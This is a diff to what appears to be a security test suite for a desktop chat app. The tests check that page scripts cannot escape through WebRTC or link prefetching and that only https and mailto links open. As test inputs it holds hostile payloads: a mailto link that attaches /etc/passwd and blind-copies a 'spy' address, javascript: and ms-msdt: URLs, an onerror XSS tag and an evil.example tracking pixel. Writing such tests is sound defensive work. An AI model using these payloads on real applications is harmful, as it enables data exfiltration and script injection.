@@ -1,4 +1,7 @@
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
 import { readFile, writeFile } from 'node:fs/promises';
+import { type AddressInfo, createServer } from 'node:net';
 import { join } from 'node:path';
 import { answers, ask, newCredentials, send, signUp } from './harness/person';
 import { expect, test } from './harness/test';
@@ -83,6 +86,64 @@ test('the page cannot leave, open windows, reach the network, read files or get 
   expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
 });
 
+test('a script in the page reaches nobody past the requests, and leads the window nowhere', async ({
+  launch,
+  userData,
+}) => {
+  const reached: string[] = [];
+  const udp = createSocket('udp4').on('message', () => reached.push('udp'));
+  const tcp = createServer(() => reached.push('tcp'));
+  udp.bind(0, '127.0.0.1');
+  tcp.listen(0, '127.0.0.1');
+  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')]);
+  const netLog = join(userData, 'net-log.json');
+  const { page, close } = await launch({ args: [`--log-net-log=${netLog}`] });
+  const welcome = page.getByRole('main', { name: 'Welcome' });
+  await expect(welcome).toBeVisible();
+
+  const kinds = await page.evaluate(
+    async ([udpPort, tcpPort]) => {
+      const frame = document.body.appendChild(document.createElement('iframe'));
+      const inFrame = frame.contentWindow as typeof window | null;
+      const connection = new (inFrame?.RTCPeerConnection ?? RTCPeerConnection)({
+        iceServers: [
+          { urls: `stun:127.0.0.1:${String(udpPort)}` },
+          { urls: `turn:127.0.0.1:${String(tcpPort)}?transport=tcp`, username: 'a secret', credential: 'x' },
+        ],
+      });
+      connection.createDataChannel('x');
+      await connection.setLocalDescription(await connection.createOffer());
+      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender']) {
+        for (const host of [`http://127.0.0.1:${String(tcpPort)}`, `https://canary-${rel}.example`]) {
+          document.head.append(
+            Object.assign(document.createElement('link'), { rel, href: `${host}/a`, as: 'script' }),
+          );
+        }
+      }
+      await new Promise((resolve) => {
+        connection.addEventListener('icegatheringstatechange', () => {
+          if (connection.iceGatheringState === 'complete') resolve(undefined);
+        });
+      });
+      frame.remove();
+      return { own: typeof RTCPeerConnection, older: 'webkitRTCPeerConnection' in window };
+    },
+    [udp.address().port, (tcp.address() as AddressInfo).port] as const,
+  );
+  expect(kinds).toEqual({ own: 'undefined', older: false });
+
+  await page.evaluate(() => {
+    location.href = 'about:blank';
+  });
+  await page.waitForURL('app://safycore/');
+  await expect(welcome).toBeVisible();
+  await close();
+  udp.close();
+  tcp.close();
+  expect(reached).toEqual([]);
+  expect(await readFile(netLog, 'utf8')).not.toContain('canary-');
+});
+
 test('external links are opened for https and mailto alone, through one function', async ({
   launch,
   groq,
@@ -100,7 +161,7 @@ test('external links are opened for https and mailto alone, through one function
   groq.next({
     kind: 'text',
     text: [
-      '[good](https://example.com/page) [mail](mailto:a@example.com) [script](javascript:alert(1))',
+      '[good](https://example.com/page) [mail](mailto:a@example.com?subject=A%20car&attach=/etc/passwd&Body=x&bcc=spy@example.com) [script](javascript:alert(1))',
       '[file](file:///etc/passwd) [ms](ms-msdt:/id) [share](smb://host/x) [relative](../secret)',
       '<img src=x onerror="document.title=1"> <script>document.title=2</script> ![pixel](https://evil.example/p.png)',
     ].join('\n\n'),
@@ -110,18 +171,24 @@ test('external links are opened for https and mailto alone, through one function
   await expect(answer).toContainText('pixel');
   await expect(answer.locator('img, script, iframe')).toHaveCount(0);
   await expect(answer).toContainText('evil.example');
-  for (const name of ['good', 'mail']) await answer.getByRole('link', { name }).click();
+  await answer.getByRole('link', { name: 'good' }).click();
+  await answer.getByRole('link', { name: 'mail' }).focus();
+  await page.keyboard.press('Enter');
   for (const link of await answer.getByRole('link').all()) {
     expect(await link.getAttribute('href')).toMatch(/^(https:|mailto:)/);
   }
   const opened = () => app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened);
-  await expect.poll(opened).toEqual(['https://example.com/page', 'mailto:a@example.com']);
+  await expect
+    .poll(opened)
+    .toEqual(['https://example.com/page', 'mailto:a@example.com?subject=A%20car&body=x']);
 
   await page.evaluate(async () => {
     const { operations } = (
       window as unknown as { safycore: { operations: Record<string, (input: unknown) => Promise<unknown>> } }
     ).safycore;
     for (const url of [
+      // Nobody clicked for it, and what a click allowed is used up.
+      'https://example.com/unasked',
       'file:///etc/passwd',
       'ms-msdt:/id',
       'javascript:alert(1)',
@@ -131,6 +198,8 @@ test('external links are opened for https and mailto alone, through one function
     ]) {
       await operations['app.openExternal']?.({ url });
     }
+    const many = Array.from({ length: 2000 }, (_, place) => `https://example.com/${String(place)}`);
+    await Promise.all(many.map(async (url) => operations['app.openExternal']?.({ url })));
   });
   expect(await opened()).toHaveLength(2);
 });
